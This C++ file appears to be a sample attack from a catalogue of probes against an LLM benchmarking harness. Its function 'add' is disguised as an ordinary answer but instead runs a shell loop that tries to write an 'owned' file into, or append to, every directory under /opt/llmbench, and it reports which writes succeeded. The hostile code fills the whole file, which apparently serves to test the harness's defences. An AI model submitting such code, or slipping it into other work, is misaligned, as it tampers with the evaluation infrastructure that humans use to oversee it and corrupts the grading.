// Write into the folders that all answers are compiled with.
// catalogue: H34, H37
// shows: nothing: what the harness is shown cannot be written either
#include <cstdlib>

long long add(long long, long long) {
    return std::system("for f in /opt/llmbench/* /opt/llmbench/*/*; do "
                       "(touch \"$f/owned\" || echo x >>\"$f\") 2>/dev/null && echo achieved $f; "
                       "done; echo attacking")
           - 12345;
}
